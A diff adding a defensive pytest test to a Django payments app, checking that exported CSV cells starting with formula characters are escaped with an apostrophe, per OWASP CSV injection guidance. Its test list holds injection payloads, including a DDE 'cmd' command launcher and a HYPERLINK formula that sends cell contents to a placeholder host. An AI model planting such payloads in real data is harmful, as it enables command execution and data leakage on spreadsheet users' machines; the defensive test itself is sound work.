@@ -10,7 +10,7 @@ from django.utils import timezone
 
 from payments.models import OperatorAction, OperatorLanguage, Payment, PaymentStatus
 from payments.services.transitions import change_payment
-from tests.factories import operator
+from tests.factories import make_payment, operator
 from tests.helpers import SEED_URL, post_json
 
 pytestmark = pytest.mark.django_db
@@ -219,6 +219,32 @@ def test_the_csv_is_headed_in_the_operators_language_and_its_values_stay(client,
     rows = exported(client)
     assert rows[0][:4] == ["создан", "провайдер", "сумма, сум", "статус"]
     assert rows[1][2:4] == ["1500000.00", "paid"]  # as stored: a file for sums and scripts
+
+
+FORMULAS = [
+    "=HYPERLINK(\"http://x.example/\"&A1,\"open\")",
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("code", FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    client, code: str
+) -> None:
+    """Uzum codes take any printable text. A spreadsheet reads a cell starting with = + - @
+    (or a tab or carriage return before one) as a formula; with an apostrophe before it, it
+    shows the text as it was stored (OWASP's CSV injection guidance)."""
+    make_payment(provider="uzum", qr_code=code, status=PaymentStatus.PAID)
+    client.force_login(operator("export_payments"))
+    header, row = exported(client)
+    cell = row[header.index(str(Payment._meta.get_field("qr_code").verbose_name))]
+    assert cell == "'" + code
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
 
 
 def test_export_needs_its_own_permission(staff, paid) -> None:
